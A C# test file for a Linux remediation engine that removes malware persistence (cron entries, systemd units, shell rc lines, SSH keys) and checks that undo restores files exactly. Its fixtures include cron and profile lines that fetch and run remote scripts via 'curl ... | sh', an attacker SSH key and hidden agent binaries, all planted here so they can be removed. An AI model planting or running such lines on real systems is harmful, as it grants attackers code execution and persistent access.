using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using BehaviorBlocking.Engine;
using BehaviorBlocking.Response;
using BehaviorBlocking.Store;
using BehaviorBlocking.Tests.TestSupport;

namespace BehaviorBlocking.Tests.Response
{
    /// <summary>
    /// Linux remediation on real files in a temp root: each removal takes exactly what the artifact names,
    /// and undo gives back the same bytes, modes, owners and link targets.
    /// </summary>
    [System.Runtime.Versioning.SupportedOSPlatform("linux")]
    public sealed class LinuxRemediatorTests : IDisposable
    {
        private readonly TempDirectory _temp = new TempDirectory();
        private readonly RemediationStore _store;

        public LinuxRemediatorTests()
        {
            Directory.CreateDirectory(Root);
            _store = RemediationStore.Open(_temp.Combine("home", ProductHome.StoreFileName));
        }

        private string Root => _temp.Combine("root");

        public void Dispose()
        {
            _store.Dispose();
            _temp.Dispose();
        }

        private LinuxRemediator Remediator(IGuardRails? guardRails = null) => new LinuxRemediator(_store, guardRails, Root);

        private string Under(string path) => Root + path;

        private string Write(string path, string content, string mode = "644", uint uid = 0, uint gid = 0)
        {
            string full = Under(path);
            Directory.CreateDirectory(Path.GetDirectoryName(full)!);
            File.WriteAllBytes(full, Encoding.UTF8.GetBytes(content));
            File.SetUnixFileMode(full, (UnixFileMode)Convert.ToInt32(mode, 8));
            Posix.Chown(full, uid, gid);
            return full;
        }

        private string Link(string path, string target)
        {
            string full = Under(path);
            Directory.CreateDirectory(Path.GetDirectoryName(full)!);
            File.CreateSymbolicLink(full, target);
            return full;
        }

        /// <summary>Bytes, mode and owner of a file; target of a link; "missing" when nothing is there.</summary>
        private static string State(string full)
        {
            var info = new FileInfo(full);
            if (info.LinkTarget is not null)
            {
                return "link -> " + info.LinkTarget;
            }

            if (!info.Exists)
            {
                return "missing";
            }

            UnixFileStatus status = UnixFiles.Status(full);
            return Convert.ToString(status.Mode, 8) + " " + status.Uid + ":" + status.Gid + " " + Convert.ToHexString(File.ReadAllBytes(full));
        }

        private const string Crontab = "# /etc/crontab: system-wide crontab\nSHELL=/bin/sh\n\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root curl -s http://203.0.113.7/s | sh\n25 6\t* * *\troot\ttest -x /usr/sbin/anacron || run-parts /etc/cron.daily\n";

        [LinuxRootFact]
        public void Remediate_CronLine_RemovesExactlyThatLineAndUndoRestoresTheFileExactly()
        {
            string file = Write("/var/spool/cron/crontabs/www-data", "# DO NOT EDIT\r\nMAILTO=\"\"\n@reboot /tmp/.x/agent\n0 3 * * * /usr/local/bin/backup", "600", 33, 107);
            string before = State(file);
            LinuxRemediator remediator = Remediator();

            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/var/spool/cron/crontabs/www-data", "@reboot /tmp/.x/agent"), Guid.Parse("3f2f8f4e-5d0b-4d39-9a0e-0a3f1d7a9b11"), whatIf: false);

            Assert.Equal(StepOutcome.Done, step.Outcome);
            Assert.Equal(ResponseKind.Remediate, step.Kind);
            Assert.Equal("# DO NOT EDIT\r\nMAILTO=\"\"\n0 3 * * * /usr/local/bin/backup", File.ReadAllText(file));
            Assert.Equal("600 33:107", string.Join(" ", State(file).Split(' ').Take(2)));
            RemediationRecord record = Assert.Single(remediator.List());
            Assert.Equal(step.Reference, record.Id.ToString("D"));
            Assert.Equal(RemediationState.Removed, record.State);
            Assert.Equal(Guid.Parse("3f2f8f4e-5d0b-4d39-9a0e-0a3f1d7a9b11"), record.DetectionId);
            Assert.Equal("line 3 of '/var/spool/cron/crontabs/www-data': @reboot /tmp/.x/agent", record.Description);

            RemediationRecord undone = remediator.Undo(record.Id);

            Assert.Equal(before, State(file));
            Assert.Equal(RemediationState.Restored, undone.State);
            Assert.Equal(RemediationState.Restored, Assert.Single(remediator.List()).State);
            Assert.NotNull(Assert.Single(remediator.List()).RestoredAt);
            Assert.Equal(ErrorIds.RemediationAlreadyUndone, Assert.Throws<BehaviorBlockingException>(() => remediator.Undo(record.Id)).ErrorId);
        }

        [LinuxRootFact]
        public void Remediate_SystemCrontabLine_KeepsTheRestByteExact()
        {
            string file = Write("/etc/crontab", Crontab);
            LinuxRemediator remediator = Remediator();

            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/crontab", "*/5 * * * * root curl -s http://203.0.113.7/s | sh"), null, false);

            Assert.Equal(StepOutcome.Done, step.Outcome);
            Assert.Equal(Crontab.Replace("*/5 * * * * root curl -s http://203.0.113.7/s | sh\n", string.Empty), File.ReadAllText(file));
            remediator.Undo(Guid.Parse(step.Reference!));
            Assert.Equal(Crontab, File.ReadAllText(file));
        }

        [LinuxRootFact]
        public void Remediate_CronDropInWithoutLine_RemovesTheWholeFileAndUndoPutsItBack()
        {
            string file = Write("/etc/cron.d/php-update", "SHELL=/bin/sh\n* * * * * root /var/tmp/.php/update\n", "644");
            string before = State(file);
            LinuxRemediator remediator = Remediator();

            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/cron.d/php-update"), null, false);

            Assert.Equal(StepOutcome.Done, step.Outcome);
            Assert.Equal("missing", State(file));
            remediator.Undo(Guid.Parse(step.Reference!));
            Assert.Equal(before, State(file));
        }

        [LinuxRootFact]
        public void Remediate_LineOfSharedFileUnknown_IsNotSupportedAndDoesNotGuess()
        {
            string file = Write("/etc/crontab", Crontab);
            string before = State(file);

            ResponseStep cron = Remediator().Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/crontab"), null, false);
            ResponseStep keys = Remediator().Remediate(new PersistenceArtifact(PersistenceKind.AuthorizedKey, "/root/.ssh/authorized_keys"), null, false);

            Assert.Equal(StepOutcome.NotSupported, cron.Outcome);
            Assert.Equal("entry unknown: the evidence names the file but not the line ('/etc/crontab')", cron.Detail);
            Assert.Equal(StepOutcome.NotSupported, keys.Outcome);
            Assert.StartsWith("entry unknown: the evidence names the file but not the line", keys.Detail);
            Assert.Equal(before, State(file));
            Assert.Empty(_store.List());
        }

        [LinuxRootFact]
        public void Remediate_SystemdUnit_RemovesFileAndEnablingLinksAndUndoRestoresThemExactly()
        {
            string unit = Write("/etc/systemd/system/dbus-org.service", "[Unit]\nDescription=D-Bus helper\n\n[Service]\nExecStart=/var/tmp/.d/dbusd\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\nAlias=dbus-helper.service\n", "644");
            string wants = Link("/etc/systemd/system/multi-user.target.wants/dbus-org.service", "/etc/systemd/system/dbus-org.service");
            string alias = Link("/etc/systemd/system/dbus-helper.service", "dbus-org.service");
            string other = Link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service");
            string timer = Link("/etc/systemd/system/timers.target.wants/dbus-org.timer", "/etc/systemd/system/dbus-org.timer");
            var before = new[] { unit, wants, alias, other, timer }.Select(State).ToArray();
            var calls = new List<string>();
            LinuxRemediator remediator = Remediator();
            remediator.Systemctl = args =>
            {
                calls.Add(string.Join(" ", args));
                return (0, string.Empty);
            };

            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/etc/systemd/system/dbus-org.service"), null, false);

            Assert.Equal(StepOutcome.Done, step.Outcome);
            Assert.Equal("removed the unit file '/etc/systemd/system/dbus-org.service' and 2 link(s) enabling it; systemctl daemon-reload done", step.Detail);
            Assert.Equal(new[] { "missing", "missing", "missing" }, new[] { unit, wants, alias }.Select(State));
            Assert.Equal(before[3], State(other));
            Assert.Equal(before[4], State(timer));
            Assert.Equal(new[] { "stop dbus-org.service", "daemon-reload" }, calls);

            remediator.Undo(Guid.Parse(step.Reference!));

            Assert.Equal(before, new[] { unit, wants, alias, other, timer }.Select(State).ToArray());
            Assert.Equal("/etc/systemd/system/dbus-org.service", new FileInfo(wants).LinkTarget);
            Assert.Equal("dbus-org.service", new FileInfo(alias).LinkTarget);
        }

        [LinuxRootFact]
        public void Remediate_UnitOfTheSystemFolderThroughMergedUsr_LinksInEtcGoToo()
        {
            // Debian's merged /usr: /lib is a link to usr/lib; the unit is named by its /lib path.
            string unit = Write("/usr/lib/systemd/system/netsync.service", "[Service]\nExecStart=/usr/lib/.ns/netsync\n[Install]\nWantedBy=multi-user.target\n");
            Link("/lib", "usr/lib");
            string wants = Link("/etc/systemd/system/multi-user.target.wants/netsync.service", "/lib/systemd/system/netsync.service");
            string user = Write("/root/.config/systemd/user/netsync.service", "[Service]\nExecStart=/bin/true\n");
            string[] before = { State(unit), State(wants), State(user) };
            LinuxRemediator remediator = Remediator();

            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/lib/systemd/system/netsync.service"), null, false);

            Assert.Equal(StepOutcome.Done, step.Outcome);
            Assert.Equal(new[] { "missing", "missing", before[2] }, new[] { State(unit), State(wants), State(user) });
            remediator.Undo(Guid.Parse(step.Reference!));
            Assert.Equal(before, new[] { State(unit), State(wants), State(user) });
        }

        [LinuxRootFact]
        public void Remediate_ForgedUnitNamedLikeASystemUnit_LeavesTheSystemUnitsLinksAndAliasAlone()
        {
            // Evidence names /etc/systemd/system/ssh.service (absent) and sshd.service (the package's alias of ssh.service).
            Write("/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
            string wants = Link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service");
            string alias = Link("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service");
            string[] before = { State(wants), State(alias) };
            var calls = new List<string>();
            LinuxRemediator remediator = Remediator(new RefuseUnder(Under("/lib/systemd/system/ssh.service")));
            remediator.Systemctl = args =>
            {
                calls.Add(string.Join(" ", args));
                return (0, string.Empty);
            };

            ResponseStep missing = remediator.Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/etc/systemd/system/ssh.service"), null, false);
            ResponseStep aliased = remediator.Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/etc/systemd/system/sshd.service"), null, false);

            Assert.Equal(StepOutcome.AlreadyGone, missing.Outcome);
            Assert.Equal(StepOutcome.Refused, aliased.Outcome);
            Assert.Equal(before, new[] { State(wants), State(alias) });
            Assert.Empty(calls);
            Assert.Empty(_store.List());
        }

        [LinuxRootFact]
        public void Remediate_UnitWithoutSystemd_SaysNothingWasStoppedOrReloaded()
        {
            Write("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n");

            ResponseStep step = Remediator().Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/etc/systemd/system/x.service"), null, false);

            Assert.Equal(StepOutcome.Done, step.Outcome);
            Assert.EndsWith("systemd is not running here (or the root is not /): the unit was not stopped and no daemon-reload was run", step.Detail);
        }

        [LinuxRootFact]
        public void Remediate_ShellRcAndAuthorizedKeysLines_UndoneExactly()
        {
            string bashrc = Write("/home/alice/.bashrc", "# ~/.bashrc\ncase $- in *i*) ;; *) return;; esac\nnohup /tmp/.x/agent >/dev/null 2>&1 &\nalias ll='ls -l'\n", "644", 1000, 1000);
            string keys = Write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdmin admin@jump\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOq attacker@kali", "600");
            string[] before = { State(bashrc), State(keys) };
            LinuxRemediator remediator = Remediator();

            ResponseStep rc = remediator.Remediate(new PersistenceArtifact(PersistenceKind.ShellRcLine, "/home/alice/.bashrc", "nohup /tmp/.x/agent >/dev/null 2>&1 &"), null, false);
            ResponseStep key = remediator.Remediate(new PersistenceArtifact(PersistenceKind.AuthorizedKey, "/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOq attacker@kali"), null, false);

            Assert.Equal(StepOutcome.Done, rc.Outcome);
            Assert.Equal(StepOutcome.Done, key.Outcome);
            Assert.Equal("# ~/.bashrc\ncase $- in *i*) ;; *) return;; esac\nalias ll='ls -l'\n", File.ReadAllText(bashrc));
            Assert.Equal("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdmin admin@jump\n", File.ReadAllText(keys));
            Assert.StartsWith("644 1000:1000 ", State(bashrc));
            Assert.StartsWith("600 0:0 ", State(keys));

            remediator.Undo(Guid.Parse(key.Reference!));
            remediator.Undo(Guid.Parse(rc.Reference!));

            Assert.Equal(before, new[] { State(bashrc), State(keys) });
        }

        [LinuxRootFact]
        public void Remediate_FailureRightAfterTheBackup_BackupWasDurableAndNothingIsRemoved()
        {
            string file = Write("/etc/crontab", Crontab);
            string before = State(file);
            LinuxRemediator remediator = Remediator();
            RemediationRecord? seenByAnotherConnection = null;
            remediator.FaultPoint = point =>
            {
                if (point == "backup-written")
                {
                    using (RemediationStore other = RemediationStore.OpenReadOnly(_store.FilePath))
                    {
                        seenByAnotherConnection = Assert.Single(other.List());
                    }

                    throw new IOException("disk pulled");
                }
            };

            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/crontab", "*/5 * * * * root curl -s http://203.0.113.7/s | sh"), null, false);

            Assert.NotNull(seenByAnotherConnection);
            Assert.Equal(RemediationState.Removed, seenByAnotherConnection!.State);
            Assert.Equal(StepOutcome.Failed, step.Outcome);
            Assert.Equal("disk pulled; nothing was removed", step.Detail);
            Assert.Equal(before, State(file));
            Assert.Empty(remediator.List());
        }

        [LinuxRootFact]
        public void Remediate_CrashBetweenTwoRemovals_UndoFromTheBackupRestoresEverything()
        {
            string unit = Write("/etc/systemd/system/agent.service", "[Service]\nExecStart=/tmp/agent\n[Install]\nWantedBy=default.target\n", "640", 0, 4);
            string wants = Link("/etc/systemd/system/default.target.wants/agent.service", "../agent.service");
            string[] before = { State(unit), State(wants) };
            LinuxRemediator crashing = Remediator();
            crashing.RollBackOnFailure = false;
            crashing.FaultPoint = point =>
            {
                if (point == "removed:0")
                {
                    throw new IOException("killed");
                }
            };

            ResponseStep step = crashing.Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/etc/systemd/system/agent.service"), null, false);

            Assert.Equal(StepOutcome.Failed, step.Outcome);
            Assert.Equal("missing", State(wants));
            Assert.Equal(before[0], State(unit));

            // A new process (a new remediator over the same store) undoes it from the stored backup alone.
            Remediator().Undo(Guid.Parse(step.Reference!));

            Assert.Equal(before, new[] { State(unit), State(wants) });
        }

        [LinuxRootFact]
        public void Remediate_FailurePartWay_PutsBackWhatWasRemovedAndKeepsNoRecord()
        {
            string unit = Write("/etc/systemd/system/agent.service", "[Service]\nExecStart=/tmp/agent\n");
            string wants = Link("/etc/systemd/system/multi-user.target.wants/agent.service", "/etc/systemd/system/agent.service");
            string[] before = { State(unit), State(wants) };
            LinuxRemediator remediator = Remediator();
            remediator.FaultPoint = point =>
            {
                if (point == "removed:0")
                {
                    throw new IOException("I/O error");
                }
            };

            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.SystemdUnit, "/etc/systemd/system/agent.service"), null, false);

            Assert.Equal(StepOutcome.Failed, step.Outcome);
            Assert.Equal(before, new[] { State(unit), State(wants) });
            Assert.Empty(remediator.List());
        }

        [LinuxRootFact]
        public void Undo_FileChangedElsewhere_PutsTheLineBackBetweenItsNeighbours()
        {
            string file = Write("/etc/crontab", Crontab);
            LinuxRemediator remediator = Remediator();
            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/crontab", "*/5 * * * * root curl -s http://203.0.113.7/s | sh"), null, false);
            File.WriteAllText(file, "MAILTO=ops@example.com\n" + File.ReadAllText(file) + "0 4 * * * root /usr/local/bin/rotate\n");

            remediator.Undo(Guid.Parse(step.Reference!));

            Assert.Equal("MAILTO=ops@example.com\n" + Crontab + "0 4 * * * root /usr/local/bin/rotate\n", File.ReadAllText(file));
        }

        [LinuxRootFact]
        public void Undo_NeighboursChangedOrLineBack_RefusedWithTheReasonAndNothingChanged()
        {
            string file = Write("/etc/crontab", Crontab);
            LinuxRemediator remediator = Remediator();
            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/crontab", "*/5 * * * * root curl -s http://203.0.113.7/s | sh"), null, false);
            Guid id = Guid.Parse(step.Reference!);
            string edited = File.ReadAllText(file).Replace("17 *\t* * *", "18 *\t* * *");
            File.WriteAllText(file, edited);

            var conflict = Assert.Throws<BehaviorBlockingException>(() => remediator.Undo(id));

            Assert.Equal(ErrorIds.RemediationUndoConflict, conflict.ErrorId);
            Assert.Contains("'" + Under("/etc/crontab") + "' changed after the remediation and the lines around the removed one are no longer next to each other", conflict.Message);
            Assert.Equal(edited, File.ReadAllText(file));
            Assert.Equal(RemediationState.Removed, Assert.Single(remediator.List()).State);

            File.WriteAllText(file, "*/5 * * * * root curl -s http://203.0.113.7/s | sh\n" + edited);
            conflict = Assert.Throws<BehaviorBlockingException>(() => remediator.Undo(id));
            Assert.Contains("has the line '*/5 * * * * root curl -s http://203.0.113.7/s | sh' again", conflict.Message);

            File.Delete(file);
            conflict = Assert.Throws<BehaviorBlockingException>(() => remediator.Undo(id));
            Assert.Contains("was deleted after the remediation", conflict.Message);
        }

        [LinuxRootFact]
        public void Undo_RemovedFileIsBackWithOtherContent_Refused()
        {
            string file = Write("/etc/cron.d/evil", "* * * * * root /tmp/e\n");
            LinuxRemediator remediator = Remediator();
            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/cron.d/evil"), null, false);
            File.WriteAllText(file, "# admin's own\n");

            var conflict = Assert.Throws<BehaviorBlockingException>(() => remediator.Undo(Guid.Parse(step.Reference!)));

            Assert.Equal(ErrorIds.RemediationUndoConflict, conflict.ErrorId);
            Assert.Equal("# admin's own\n", File.ReadAllText(file));
        }

        [LinuxRootFact]
        public void Remediate_FileIsALink_RefusedAndTheTargetUntouched()
        {
            string secret = Write("/etc/shadow", "root:$y$j9T$x:19000:0:99999:7:::\n", "640");
            Link("/root/.bashrc", "/etc/shadow");
            string before = State(secret);

            ResponseStep step = Remediator().Remediate(new PersistenceArtifact(PersistenceKind.ShellRcLine, "/root/.bashrc", "root:$y$j9T$x:19000:0:99999:7:::"), null, false);

            Assert.Equal(StepOutcome.Refused, step.Outcome);
            Assert.Equal("'/root/.bashrc' is a symbolic link to '/etc/shadow'; it is not followed", step.Detail);
            Assert.Equal(before, State(secret));
        }

        [LinuxRootFact]
        public void Remediate_FolderLinkWithAbsoluteTarget_StaysUnderTheRoot()
        {
            // /home -> /data/home inside the root: an absolute link target is taken under the root, never outside it.
            string file = Write("/data/home/bob/.profile", "export PATH=$PATH:/opt/bin\ncurl -s http://203.0.113.9/p | sh\n");
            Link("/home", "/data/home");
            var remediator = Remediator();

            Assert.Equal(file, remediator.Physical("/home/bob/.profile"));
            ResponseStep step = remediator.Remediate(new PersistenceArtifact(PersistenceKind.ShellRcLine, "/home/bob/.profile", "curl -s http://203.0.113.9/p | sh"), null, false);

            Assert.Equal(StepOutcome.Done, step.Outcome);
            Assert.Equal("export PATH=$PATH:/opt/bin\n", File.ReadAllText(file));
        }

        [LinuxRootFact]
        public void Remediate_FolderLinkOfAnotherAccount_RefusedAndNotFollowed()
        {
            // alice's ~/.ssh points into /etc: a root remediation must not follow her there.
            string target = Write("/etc/authorized_keys", "ssh-ed25519 AAAA ops@jump\nssh-ed25519 BBBB x@y\n");
            Directory.CreateDirectory(Under("/home/alice"));
            string link = Link("/home/alice/.ssh", "/etc");
            Posix.Lchown(link, 1000, 1000);
            string before = State(target);

            ResponseStep step = Remediator().Remediate(new PersistenceArtifact(PersistenceKind.AuthorizedKey, "/home/alice/.ssh/authorized_keys", "ssh-ed25519 BBBB x@y"), null, false);

            Assert.Equal(StepOutcome.Refused, step.Outcome);
            Assert.Equal("'/home/alice/.ssh' is a link owned by uid 1000 (to '/etc'); only root's folder links are followed", step.Detail);
            Assert.Equal(before, State(target));
            Assert.Empty(_store.List());
        }

        [LinuxRootFact]
        public void Remediate_GuardRailsRefuse_NothingChangedNothingRecorded()
        {
            string file = Write("/etc/profile", "umask 022\ncurl -s http://203.0.113.9/p | sh\n");
            string before = State(file);

            ResponseStep step = Remediator(new RefuseUnder(Under("/etc/profile"))).Remediate(new PersistenceArtifact(PersistenceKind.ShellRcLine, "/etc/profile", "curl -s http://203.0.113.9/p | sh"), null, false);

            Assert.Equal(StepOutcome.Refused, step.Outcome);
            Assert.Equal("test guard: " + Under("/etc/profile"), step.Detail);
            Assert.Equal(before, State(file));
            Assert.Empty(_store.List());
        }

        [LinuxRootFact]
        public void Remediate_WhatIfMissingAndUnknown_ChangeNothing()
        {
            string file = Write("/etc/crontab", Crontab);
            string before = State(file);
            LinuxRemediator remediator = Remediator();

            ResponseStep whatIf = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/crontab", "*/5 * * * * root curl -s http://203.0.113.7/s | sh"), null, whatIf: true);
            ResponseStep noLine = remediator.Remediate(new PersistenceArtifact(PersistenceKind.CronEntry, "/etc/crontab", "* * * * * root /not/there"), null, false);
            ResponseStep noFile = remediator.Remediate(new PersistenceArtifact(PersistenceKind.AuthorizedKey, "/home/nobody/.ssh/authorized_keys", "ssh-rsa AAAA x"), null, false);
            ResponseStep relative = remediator.Remediate(new PersistenceArtifact(PersistenceKind.ShellRcLine, "/etc/../root/.bashrc", "x"), null, false);
            ResponseStep windows = remediator.Remediate(new PersistenceArtifact(PersistenceKind.RunKey, @"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x", "y"), null, false);

            Assert.Equal(StepOutcome.WhatIf, whatIf.Outcome);
            Assert.Equal("would remove line 5 of '/etc/crontab': */5 * * * * root curl -s http://203.0.113.7/s | sh", whatIf.Detail);
            Assert.Equal(StepOutcome.AlreadyGone, noLine.Outcome);
            Assert.Equal(StepOutcome.AlreadyGone, noFile.Outcome);
            Assert.Equal(StepOutcome.Failed, relative.Outcome);
            Assert.Equal(StepOutcome.NotSupported, windows.Outcome);
            Assert.Equal(before, State(file));
            Assert.Empty(_store.List());
            Assert.Equal(ErrorIds.RemediationNotFound, Assert.Throws<BehaviorBlockingException>(() => remediator.Undo(Guid.NewGuid())).ErrorId);
        }

        private sealed class RefuseUnder : IGuardRails
        {
            private readonly string _path;

            public RefuseUnder(string path) => _path = path;

            public string? RefuseProcess(int processId) => null;

            public string? RefuseFile(string path) => path == _path ? "test guard: " + path : null;
        }
    }

    internal static class Posix
    {
        [System.Runtime.InteropServices.DllImport("libc.so.6", SetLastError = true)]
        private static extern int chown(string path, uint owner, uint group);

        [System.Runtime.InteropServices.DllImport("libc.so.6", SetLastError = true)]
        private static extern int lchown(string path, uint owner, uint group);

        [System.Runtime.InteropServices.DllImport("libc.so.6", SetLastError = true)]
        private static extern int link(string oldPath, string newPath);

        /// <summary>Runs a program and waits for it; its exit code.</summary>
        public static int Run(string program, params string[] arguments)
        {
            var start = new System.Diagnostics.ProcessStartInfo(program) { UseShellExecute = false };
            foreach (string argument in arguments)
            {
                start.ArgumentList.Add(argument);
            }

            using System.Diagnostics.Process process = System.Diagnostics.Process.Start(start)!;
            process.WaitForExit();
            return process.ExitCode;
        }

        /// <summary>Makes a hard link; 0 on success.</summary>
        public static int Link(string existing, string newName) => link(existing, newName);

        public static void Lchown(string path, uint uid, uint gid)
        {
            if (lchown(path, uid, gid) != 0)
            {
                throw new IOException("lchown " + path + " failed: errno " + System.Runtime.InteropServices.Marshal.GetLastWin32Error());
            }
        }

        public static void Chown(string path, uint uid, uint gid)
        {
            if (chown(path, uid, gid) != 0)
            {
                throw new IOException("chown " + path + " failed: errno " + System.Runtime.InteropServices.Marshal.GetLastWin32Error());
            }
        }
    }
}
